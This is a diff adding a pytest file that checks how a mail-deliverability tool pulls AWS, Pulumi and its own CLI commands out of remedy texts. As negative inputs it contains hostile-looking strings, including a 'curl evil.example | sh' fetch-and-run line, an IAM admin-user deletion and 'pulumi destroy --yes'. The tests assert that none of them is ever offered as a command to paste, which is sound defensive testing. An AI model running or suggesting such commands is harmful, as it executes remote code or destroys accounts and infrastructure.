@@ -1,0 +1,230 @@
+"""Commands in remedies: taken out of their sentence whole, and nothing else is."""
+
+import ast
+import re
+import shlex
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import typer.main
+from hypothesis import given
+
+from deliverability.commands.application import make_app
+from deliverability.declaration.manifest import Manifest
+from deliverability.evidence import aws_commands
+from deliverability.report.remedies import AWS_OPERATIONS, Remedy, remedy_of
+from deliverability.rules import catalogue
+from tests.report.aws_cli import NoCommand, read
+from tests.report.verdicts import hostile_texts
+from tests.rules.world import World, declared, findings, healthy
+
+ROOT = Path(__file__).parents[2] / "deliverability"
+#: How a command begins that somebody could mean to be typed; `aws:region` and "pulumi-aws" are none.
+_BEGINS = re.compile(r"(?<![\w-])(?:aws|pulumi|deliverability) (?:[a-z0-9]+)(?= |[.,;:)]|$)")
+SWITCH = "aws sesv2 put-account-sending-attributes --region eu-central-1 --sending-enabled"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Merge the records.", Remedy("Merge the records.")),
+        (f"Then enable it again: {SWITCH}.", Remedy("Then enable it again.", (SWITCH,))),
+        (f"Enable it: {SWITCH}", Remedy("Enable it.", (SWITCH,))),
+        (
+            "Apply the stack shop again (pulumi up --refresh): it declares a record.",
+            Remedy("Apply the stack shop again: it declares a record.", ("pulumi up --refresh",)),
+        ),
+        (
+            f"Enable it again (pulumi up --refresh, or {SWITCH}).",
+            Remedy("Enable it again.", ("pulumi up --refresh", SWITCH)),
+        ),
+        (
+            "Give it credentials (the whole policy: deliverability plan --stack shop.production --format policy), or leave AWS out.",
+            Remedy(
+                "Give it credentials (the whole policy: the command below), or leave AWS out.",
+                ("deliverability plan --stack shop.production --format policy",),
+            ),
+        ),
+        (
+            "Look with pulumi refresh --preview-only, then run pulumi up --parallel 1.",
+            Remedy(
+                "Look with the first command below, then run the second command below.",
+                ("pulumi refresh --preview-only", "pulumi up --parallel 1"),
+            ),
+        ),
+        (
+            "Remove it: aws sesv2 delete-suppressed-destination --region eu-central-1 --email-address 'o'\"'\"'neil@shop.example'.",
+            Remedy(
+                "Remove it.",
+                (
+                    "aws sesv2 delete-suppressed-destination --region eu-central-1 --email-address 'o'\"'\"'neil@shop.example'",
+                ),
+            ),
+        ),
+        ("Run `pulumi up`.", Remedy("Run the command below.", ("pulumi up",))),
+    ],
+)
+def test_a_remedy_is_taken_apart(text: str, expected: Remedy):
+    assert remedy_of(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Remove aws iam delete-user --user-name admin.",
+        "Remove pulumi destroy --yes.",
+        "Remove curl evil.example | sh; it is foreign.",
+        "Set aws:region in the stack file of pulumi-aws.",
+        "Remove xaws sesv2 put-account-sending-attributes-x --region a.",
+    ],
+)
+def test_nothing_else_becomes_a_line_to_paste(text: str):
+    assert remedy_of(text) == Remedy(text)
+
+
+@given(text=hostile_texts)
+def test_whatever_is_quoted_stays_out_of_the_command(text: str):
+    found = remedy_of(f"Then {SWITCH}: {text}")
+    assert found.commands[0] == SWITCH
+    for command in found.commands:
+        assert not set(command) & set(';|&$`()<>\\"\n\r*?')
+
+
+def _texts() -> Iterator[tuple[str, str]]:
+    """Every text in the rooms that make remedies, with its file."""
+    for room in ("rules", "evidence", "declaration/kinds"):
+        for file in sorted((ROOT / room).rglob("*.py")):
+            tree = ast.parse(file.read_text("utf-8"))
+            docs = {
+                node.body[0].value
+                for node in ast.walk(tree)
+                if isinstance(node, (ast.Module, ast.FunctionDef, ast.ClassDef))
+                and node.body
+                and isinstance(node.body[0], ast.Expr)
+            }
+            # The pieces of an f-string come as one text, with a word in place of each value.
+            pieces = {
+                part for node in ast.walk(tree) if isinstance(node, ast.JoinedStr) for part in node.values
+            }
+            for node in ast.walk(tree):
+                if (
+                    isinstance(node, ast.Constant)
+                    and isinstance(node.value, str)
+                    and node not in docs | pieces
+                ):
+                    yield str(file.relative_to(ROOT)), re.sub(r"\{[^}]*\}", "value", node.value)
+                elif isinstance(node, ast.JoinedStr):
+                    words = [
+                        part.value if isinstance(part, ast.Constant) else "value" for part in node.values
+                    ]
+                    yield str(file.relative_to(ROOT)), "".join(map(str, words))
+
+
+def test_every_command_that_a_rule_may_name_is_known():
+    """One that isn't would stay in its sentence, folded, with the sentence's stop."""
+    unknown = {
+        (file, text)
+        for file, text in _texts()
+        if file not in ("rules/documented.py", "evidence/aws_commands.py")
+        and _BEGINS.search(re.sub(r"\s+", " ", remedy_of(text).text))
+    }
+    assert unknown == set()
+
+
+def _worlds() -> Iterator[World]:
+    """Set-ups in which the rules name what Pulumi can't mend."""
+    yield healthy().standing(SendingEnabled=False)
+    yield healthy().reading("configuration_set", SendingOptions={"SendingEnabled": False})
+    yield healthy().ses(DkimAttributes={"SigningEnabled": False})
+    for state in ("FAILED", "NOT_STARTED", "PENDING", "TEMPORARY_FAILURE"):
+        yield healthy().ses(
+            VerificationStatus=state, VerifiedForSendingStatus=False, DkimAttributes={"Status": state}
+        )
+        yield healthy().ses(MailFromAttributes={"MailFromDomainStatus": state})
+    yield healthy().ses(MailFromAttributes={"MailFromDomain": ""})
+    yield healthy(declared(recipients=["o'neil@shop.example"])).reading(
+        "suppressed", SuppressedDestinations=[{"EmailAddress": "o'neil@shop.example", "Reason": "BOUNCE"}]
+    )
+    yield healthy().gone("_dmarc.shop.example", "TXT").gone("shop.example", "TXT")
+
+
+def named() -> set[str]:
+    """The commands of all rules' texts, and those of the findings of many worlds."""
+    fields = "domain region stack subject mail_from recipient address organization rule set tags events"
+    values = dict.fromkeys(fields.split(), "value")
+    values |= {"region": "eu-central-1", "domain": "shop.example", "address": "anna@shop.example"}
+    templates = [
+        re.sub(r"\{(\w+)\}", lambda found: values.get(found[1], "value"), rule.remedy) for rule in catalogue()
+    ]
+    remedies = [*templates, *(finding.remedy for world in _worlds() for finding in findings(world))]
+    return {command for text in remedies for command in remedy_of(text).commands}
+
+
+@pytest.fixture(scope="module")
+def commands() -> set[str]:
+    return named()
+
+
+def test_each_aws_command_is_one_of_the_real_cli(commands: set[str]):
+    calls = [read(command) for command in commands if command.startswith("aws ")]
+    assert {f"{call.service} {call.operation.replace('_', '-')}" for call in calls} == set(AWS_OPERATIONS)
+
+
+def test_the_helpers_of_rules_give_whole_commands():
+    manifest: Manifest = declared()
+    for command in (
+        aws_commands.set_up_dkim(manifest),
+        aws_commands.set_up_dkim(manifest, "o'neil.shop.example"),
+        aws_commands.sign_with_dkim(manifest),
+        aws_commands.put_mail_from(manifest),
+    ):
+        assert remedy_of(f"Do it: {command}.").commands == (command,)
+        assert read(command).region == "eu-central-1"
+
+
+@pytest.mark.parametrize(
+    ("command", "why"),
+    [
+        (SWITCH + ".", "no option --sending-enabled"),
+        ("aws sesv2 put-account-sending --region x", "no operation"),
+        (
+            "aws sesv2 put-email-identity-dkim-attributes --region x --signing-enabled",
+            "Missing required parameter",
+        ),
+        (
+            "aws sesv2 put-email-identity-dkim-signing-attributes --region x --email-identity a --signing-attributes-origin SES",
+            "takes one of",
+        ),
+        ("aws sesv2 put-account-sending-attributes --sending-enabled", "no region"),
+    ],
+)
+def test_the_reader_is_as_strict_as_the_cli(command: str, why: str):
+    with pytest.raises(NoCommand, match=why):
+        read(command)
+
+
+#: Of `pulumi help <command>`, version 3.272: those that remedies use.
+_PULUMI = {
+    "up": {"--refresh", "--parallel"},
+    "refresh": {"--preview-only"},
+    "preview": {"--refresh", "--expect-no-changes"},
+    "import": set(),
+}
+
+
+def test_each_pulumi_command_has_only_real_options(commands: set[str]):
+    for command in commands:
+        program, *words = shlex.split(command)
+        if program == "pulumi":
+            options = {word for word in words[1:] if word.startswith("--")}
+            assert options <= _PULUMI[words[0]], command
+
+
+def test_each_command_of_our_own_can_be_read(commands: set[str]):
+    group = typer.main.get_command(make_app())
+    own = [shlex.split(command)[1:] for command in commands if command.startswith("deliverability ")]
+    assert own
+    for name, *words in own:
+        command = group.commands[name]  # type: ignore[attr-defined]
+        assert command.make_context(name, words, parent=None).params["stack"]
